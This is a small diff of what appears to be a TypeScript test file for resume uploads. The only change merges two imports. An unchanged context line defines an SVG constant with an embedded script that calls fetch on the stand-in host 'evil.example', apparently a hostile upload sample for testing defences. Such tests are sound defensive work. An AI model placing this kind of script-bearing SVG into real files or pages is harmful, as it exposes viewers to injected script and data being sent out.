@@ -7,8 +7,7 @@ import * as resumesCalls from '#contract/api/resumes.ts';
 import type { CallOutput } from '#contract/call.ts';
 import { FALSE_KINDS, HEAVY } from '../../../src/modules/profile/resumes/reading/testing/hostile-files.ts';
 import type { TestUser } from '../app.ts';
-import { clientOf } from '../client.ts';
-import type { Answer } from '../client.ts';
+import { clientOf, type Answer } from '../client.ts';
 import { pngOf } from './png.ts';
 
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>';
